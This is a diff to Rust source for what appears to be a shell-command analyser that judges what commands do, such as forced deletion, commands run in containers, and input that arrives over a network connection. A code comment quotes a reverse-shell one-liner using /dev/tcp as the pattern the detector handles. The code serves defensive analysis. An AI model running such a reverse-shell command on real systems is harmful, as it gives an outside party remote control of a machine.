@@ -3,11 +3,10 @@
 use std::borrow::Cow;
 
 use crate::arg::{Arg, Hazy};
-use crate::classify::Purpose;
+use crate::classify::{self, Purpose};
 use crate::doing::{Doing, Inner};
 use crate::effect::{Carries, Effect, Origin, Peer};
-use crate::engine::{At, Engine};
-use crate::flow::Flow;
+use crate::engine::{At, Context, Engine};
 use crate::knowledge::{self, Action, Node, Role, Touch};
 use crate::normal::{self, Normal};
 use crate::options::{self, Line};
@@ -27,7 +26,6 @@ pub(crate) fn command<'a>(
     program: &Arg<'a>,
     rest: &[Arg<'a>],
     at: &At<'_, '_>,
-    worded: &Flow,
 ) -> Found<'a> {
     let mut doing = Doing::default();
     let Some(word) = program.text() else {
@@ -41,12 +39,16 @@ pub(crate) fn command<'a>(
         doing.unknown("which program runs is not known");
         return Found { name: String::new(), normal: Normal::default(), doing };
     };
-    let Some(name) = known_name(word) else {
+    let tidy =
+        if word.contains("/.") || word.contains("//") { classify::tidy(word) } else { Cow::Borrowed(word) };
+    let Some(name) = known_name(&tidy) else {
         path_program(engine, word, at, &mut doing);
         let normal = normal::plain(word, rest);
         return Found { name: word.to_owned(), normal, doing };
     };
-    let Some(node) = knowledge::program(name) else {
+    // A colon cannot be a header's name.
+    let known = if name == ":" { "true" } else { name };
+    let Some(node) = knowledge::program(known) else {
         if name.is_empty() {
             doing.unknown("a command without a name");
         } else {
@@ -54,7 +56,7 @@ pub(crate) fn command<'a>(
         }
         return Found { name: name.to_owned(), normal: normal::plain(name, rest), doing };
     };
-    let mut evaluation = Evaluation { engine, at, worded, name, cwds: at.cwds.clone(), doing };
+    let mut evaluation = Evaluation { engine, at, name, cwds: at.cwds.clone(), doing };
     let line = evaluation.read(node, rest);
     evaluation.judge(&line);
     let doing = evaluation.doing;
@@ -112,7 +114,6 @@ fn path_program(engine: &mut Engine<'_>, word: &str, at: &At<'_, '_>, doing: &mu
 pub(crate) struct Evaluation<'x, 'e, 's, 'p, 'a> {
     pub(crate) engine: &'x mut Engine<'e>,
     pub(crate) at: &'x At<'s, 'p>,
-    pub(crate) worded: &'x Flow,
     pub(crate) name: &'x str,
     /// Where this command's relative paths are measured from.
     pub(crate) cwds: Vec<Cow<'x, str>>,
@@ -144,6 +145,7 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
                 _ => {}
             }
         }
+        self.doing.forced = self.name == "rm" && line.options.iter().any(|set| set.choice.canonical == "-f");
         for set in &line.options {
             if set.choice.actions.iter().any(|action| matches!(action, Action::Chdir)) {
                 self.chdir(set.value.as_ref());
@@ -279,16 +281,20 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
             }
             return;
         }
-        let splits =
-            line.operands.iter().position(|operand| matches!(operand, Arg::Hazy(hazy) if hazy.splits));
+        let splits = line
+            .operands
+            .iter()
+            .position(|operand| matches!(operand, Arg::Hazy(hazy) if hazy.splits && !hazy.absent));
         for (place, operand) in line.operands.iter().enumerate() {
             let Some(slot) = options::slot_at(&roles.slots, &line.operands, place) else {
                 self.doing.unknown(format!("`{}` with more operands than expected", self.name));
                 return;
             };
             // Where a word before it may be any number of words, an operand may stand for any of the roles.
-            if splits.is_some_and(|first| first <= place) && roles.slots.len() > 1 {
-                for slot in &roles.slots {
+            let open =
+                splits.filter(|first| *first <= place).map(|first| options::slots_from(&roles.slots, first));
+            if let Some(slots) = open.filter(|slots| slots.len() != 1) {
+                for slot in slots {
                     if is_runnable(slot.role) {
                         self.doing.unknown("words that are not known decide what runs");
                     } else {
@@ -302,6 +308,11 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
                     let words: Vec<Arg<'a>> = line.operands.iter().skip(place).cloned().collect();
                     self.doing.code_given = true;
                     self.doing.inner.push(Inner::Command(words));
+                    return;
+                }
+                Role::Elsewhere => {
+                    let words: Vec<Arg<'a>> = line.operands.iter().skip(place).cloned().collect();
+                    self.elsewhere(&words);
                     return;
                 }
                 Role::Shell if slot.repeats => {
@@ -330,7 +341,12 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
         if self.doing.code_given {
             return;
         }
-        let input = self.at.context.input.clone();
+        let mut input = self.at.context.input.clone();
+        // `bash -i >& /dev/tcp/host/port 0>&1`: the other end types.
+        if self.at.context.extra.iter().any(|effect| matches!(effect, Effect::Connect(_))) {
+            input.network = true;
+            input.constant = None;
+        }
         match role {
             Role::Shell => match &input.constant {
                 Some(text) => {
@@ -344,6 +360,18 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
             },
             Role::Command | Role::Script(_) => self.doing.code("shell", input.origin()),
             _ => {}
+        }
+    }
+
+    /// A command that runs in a container: its paths are not of this machine. What only reads there is nothing here;
+    /// what does more is asked about.
+    pub(crate) fn elsewhere(&mut self, words: &[Arg<'a>]) {
+        self.doing.code_given = true;
+        let context = Context { depth: self.at.context.depth + 1, ..Context::default() };
+        let effects = self.engine.apart(words, &At { context: &context, ..*self.at });
+        if effects.iter().any(|effect| !matches!(effect, Effect::Read(_))) {
+            let name = words.first().and_then(Arg::text).unwrap_or("a command");
+            self.doing.add(Effect::Run { program: format!("{name} in a container") });
         }
     }
 
@@ -394,6 +422,12 @@ fn is_path(role: Role<'_>) -> bool {
 fn is_runnable(role: Role<'_>) -> bool {
     matches!(
         role,
-        Role::Command | Role::Shell | Role::Script(_) | Role::Code(_) | Role::Module | Role::Program
+        Role::Command
+            | Role::Elsewhere
+            | Role::Shell
+            | Role::Script(_)
+            | Role::Code(_)
+            | Role::Module
+            | Role::Program
     )
 }
